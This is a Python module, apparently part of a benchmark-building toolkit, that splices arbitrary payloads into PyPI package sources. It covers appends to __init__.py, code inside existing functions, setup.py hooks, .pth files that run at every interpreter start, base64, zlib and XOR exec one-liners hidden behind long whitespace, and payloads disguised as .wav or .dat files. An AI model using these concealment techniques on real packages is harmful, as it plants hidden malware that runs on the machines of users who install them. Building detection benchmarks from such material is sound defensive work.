"""Splices for PyPI releases."""

from __future__ import annotations

import posixpath
import random
import re
import zlib
from base64 import b64encode

from darnel.features.package import Form
from darnel.training.benchmarks.hosts import Host
from darnel.training.benchmarks.payloads import Payload
from darnel.training.benchmarks.slicing import _SETUP
from darnel.training.benchmarks.source import append, indent, insert, line_prefix, root_of
from darnel.training.benchmarks.splice import Change, Splice, changed

_NAMES = ("_compat", "_utils", "_telemetry", "_runtime", "_loader", "_init", "_config", "_version_check", "_helpers")
_FUTURE = re.compile(rb"^from\s+__future__\s+import[^\n]*\n?", re.M)
_STAR = re.compile(rb"^\s*from\s+[\w.]+\s+import\s*\*", re.M)
_SIMPLE = frozenset({"expression_statement", "import_statement", "import_from_statement"})
_LONGEST_LINE = 32 * 1024


def _code(payload: Payload) -> bytes:
    return _FUTURE.sub(b"", payload.code).strip(b"\n") + b"\n"


def dressed(payload: Payload, rng: random.Random) -> tuple[bytes, str]:
    """The payload as a block at module level: as it is, in a function that is called, or in ``try``."""
    code = _code(payload)
    style = rng.choice(("plain", "plain", "function", "guarded"))
    if style == "plain" or _STAR.search(code):
        return code, "plain"
    if style == "function":
        name = rng.choice((b"_init", b"_setup", b"_check_version", b"_bootstrap", b"_load"))
        return b"def " + name + b"():\n" + indent(code, b"    ", "python") + b"\n\n" + name + b"()\n", style
    handler = rng.choice((b"except Exception:\n    pass\n", b"except:\n    pass\n"))
    return b"try:\n" + indent(code, b"    ", "python") + handler, style


def one_line(payload: Payload, rng: random.Random) -> bytes:
    """The payload as one line: joined by semicolons if it can be, else encoded and executed."""
    code = _code(payload)
    root = root_of(code, "python")
    if (
        root is not None
        and not root.has_error
        and all(node.type in _SIMPLE and node.start_point[0] == node.end_point[0] for node in root.children)
    ):
        return b";".join(code[n.start_byte : n.end_byte].rstrip(b"; ") for n in root.children)
    wraps = (
        lambda: b"exec(__import__('base64').b64decode('" + b64encode(code) + b"'))",
        lambda: b"exec(bytes.fromhex('" + code.hex().encode() + b"'))",
        lambda: (
            b"exec(__import__('zlib').decompress(__import__('base64').b64decode('"
            + b64encode(zlib.compress(code, 9))
            + b"')))"
        ),
        lambda: (
            b"exec(compile(__import__('base64').b64decode(b'" + b64encode(code) + b"').decode(),'<string>','exec'))"
        ),
    )
    return rng.choice(wraps)()


def top(data: bytes) -> int:
    """Offset of the line after docstring, ``from __future__`` and the first run of imports."""
    root = root_of(data, "python")
    at = 0
    for i, node in enumerate(root.children if root is not None else ()):
        docstring = (
            i == 0
            and node.type == "expression_statement"
            and node.named_child_count == 1
            and (node.named_children[0].type == "string")
        )
        if not docstring and node.type not in (
            "comment",
            "future_import_statement",
            *_SIMPLE - {"expression_statement"},
        ):
            break
        end = data.find(b"\n", node.end_byte - (data[node.end_byte - 1 : node.end_byte] == b"\n"))
        at = end + 1 if end >= 0 else len(data)
    return at


def _at_top(path: str, data: bytes, block: bytes, style: str) -> Change:
    offset = top(data)
    lead = b"\n" if offset == 0 or data[:offset].endswith(b"\n") else b"\n\n"
    return changed(path, insert(data, offset, lead + block + b"\n"), style)


def append_init(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the end of the main module."""
    data = host.text(host.main)
    if data is None:
        return None
    block, style = dressed(payload, rng)
    return changed(host.main, append(data, block), style)


def prepend_init(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """In the main module, after its imports."""
    data = host.text(host.main)
    return _at_top(host.main, data, *dressed(payload, rng)) if data is not None else None


def _module(host: Host, rng: random.Random) -> tuple[str, bytes] | None:
    paths = host.modules()
    for _ in range(min(5, len(paths))):
        path = rng.choice(paths)
        if (data := host.text(path)) is not None:
            return path, data
    return None


def append_deep(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """At the end of a module deep inside."""
    found = _module(host, rng)
    if found is None:
        return None
    block, style = dressed(payload, rng)
    return changed(found[0], append(found[1], block), style)


def prepend_deep(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """In a module deep inside, after its imports."""
    found = _module(host, rng)
    return _at_top(*found, *dressed(payload, rng)) if found is not None else None


def in_function(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """Among the statements of a function that is there already: runs when it is called."""
    if _STAR.search(payload.code):
        return None
    for _ in range(4):
        found = _module(host, rng) if rng.random() < 0.7 or not host.main else (host.main, host.text(host.main) or b"")
        if found is None:
            return None
        path, data = found
        places = _inside_functions(data)
        if places:
            offset, prefix = rng.choice(places)
            block = indent(_code(payload), prefix, "python")
            return changed(path, insert(data, offset, block), "plain")
    return None


def _inside_functions(data: bytes) -> list[tuple[int, bytes]]:
    """Start of a line and indentation, for statements (not docstrings) directly inside functions."""
    root = root_of(data, "python")
    found: list[tuple[int, bytes]] = []
    todo = list(root.children) if root is not None else []
    while todo:
        node = todo.pop()
        body = node.child_by_field_name("body")
        if node.type == "function_definition" and body is not None and body.named_child_count >= 3:
            for statement in body.named_children[1:4]:
                prefix = line_prefix(data, statement.start_byte)
                if prefix and statement.type != "comment":
                    found.append((statement.start_byte - len(prefix), prefix))
        elif node.type in ("class_definition", "decorated_definition", "block"):
            todo += node.children
    return found


def new_module(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A new module, imported by the main one."""
    data = host.text(host.main)
    if data is None or not host.main.endswith("__init__.py"):
        return None
    folder = posixpath.dirname(host.main)
    free = [name for name in _NAMES if f"{folder}/{name}.py" not in host.members]
    if not free:
        return None
    name = rng.choice(free)
    code, style = dressed(payload, rng)
    how = rng.choice((f"from . import {name}\n", f"from .{name} import *\n", f"from . import {name}  # noqa: F401\n"))
    line = insert(data, top(data), how.encode()) if rng.random() < 0.5 else append(data, how.encode())
    path = f"{folder}/{name}.py"
    return Change({host.main: line.data, path: code}, path, 1, code.count(b"\n"), style)


def setup(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """In setup.py, before ``setup()``."""
    data = host.text("setup.py")
    root = root_of(data, "python") if data else None
    if data is None or root is None:
        return None
    for node in root.children:
        text = data[node.start_byte : node.end_byte]
        if _SETUP.match(text) or (node.type == "if_statement" and b"setup(" in text):
            block, style = dressed(payload, rng)
            start = node.start_byte
            return (
                changed("setup.py", insert(data, start, block + b"\n"), style)
                if line_prefix(data, start) == b""
                else None
            )
    return None


def pth(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """A ``.pth`` file at the root of a wheel: runs whenever Python starts."""
    if host.form not in (Form.WHEEL, Form.INSTALLED):
        return None
    flat = host.package.name.replace("-", "_") or "package"
    path = rng.choice((f"{flat}.pth", f"{flat}_init.pth", f"{flat}-nspkg.pth", f"distutils-{flat}.pth"))
    encoded = b64encode(_code(payload))
    line = rng.choice(
        (
            b"import base64; exec(base64.b64decode('" + encoded + b"'))\n",
            b"import os, sys, subprocess; subprocess.Popen([sys.executable, '-c', \"import base64; "
            b"exec(base64.b64decode('" + encoded + b"'))\"])\n",
            b"import sys; exec(__import__('base64').b64decode('" + encoded + b"').decode())\n",
        )
    )
    return Change({path: line}, path, 1, 1, "encoded") if path not in host.members else None


def padded_line(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """Off the screen, behind a statement that is there already."""
    found = (host.main, host.text(host.main) or b"") if rng.random() < 0.5 and host.main else _module(host, rng)
    line = one_line(payload, rng)
    if found is None or len(line) > _LONGEST_LINE:
        return None
    path, data = found
    root = root_of(data, "python")
    places = [
        node.end_byte
        for node in (root.children if root is not None else ())
        if node.type in _SIMPLE and data[node.end_byte : node.end_byte + 2].startswith((b"\n", b"\r\n"))
    ]
    if not places:
        return None
    gap = b" " * rng.choice((60, 120, 200, 320, 512)) if rng.random() < 0.8 else b""
    style = "encoded" if line.startswith(b"exec(") else "joined"
    return changed(path, insert(data, rng.choice(places), gap + b"; " + line), style)


def data_file(host: Host, payload: Payload, rng: random.Random) -> Change | None:
    """Encoded in a data file beside the main module, which loads it."""
    data = host.text(host.main)
    if data is None or not host.main.endswith("__init__.py"):
        return None
    folder = posixpath.dirname(host.main)
    name = rng.choice(("schema.dat", "locale.bin", "cache.json", "theme.wav", "model.txt"))
    path = f"{folder}/{name}"
    if path in host.members:
        return None
    code = _code(payload)
    stored, decoder = rng.choice(
        (
            (b64encode(code), b"__import__('base64').b64decode(%s)"),
            (b64encode(zlib.compress(code, 9)), b"__import__('zlib').decompress(__import__('base64').b64decode(%s))"),
            (bytes(byte ^ 0x5A for byte in code), b"bytes(b ^ 0x5A for b in %s)"),
        )
    )
    skip = 0
    if name.endswith(".wav"):
        head = b"RIFF" + (36 + len(stored)).to_bytes(4, "little") + b"WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0"
        head += b"\x40\x1f\0\0\x01\0\x08\0data" + len(stored).to_bytes(4, "little")
        stored, skip = head + stored, len(head)
    read = b"open(os.path.join(os.path.dirname(__file__), '" + name.encode() + b"'), 'rb').read()"
    read += b"[%d:]" % skip if skip else b""
    block = b"import os\nexec(" + decoder % read + b")\n"
    change = changed(host.main, append(data, block), "encoded")
    return Change({**change.files, path: stored}, host.main, change.first, change.last, "encoded")


_PYTHON = frozenset({"python"})

SPLICES: tuple[Splice, ...] = (
    Splice("append-init", _PYTHON, append_init),
    Splice("prepend-init", _PYTHON, prepend_init),
    Splice("append-deep", _PYTHON, append_deep),
    Splice("prepend-deep", _PYTHON, prepend_deep),
    Splice("in-function", _PYTHON, in_function),
    Splice("new-module", _PYTHON, new_module),
    Splice("setup", _PYTHON, setup),
    Splice("pth", _PYTHON, pth),
    Splice("padded-line", _PYTHON, padded_line),
    Splice("data-file", _PYTHON, data_file),
)
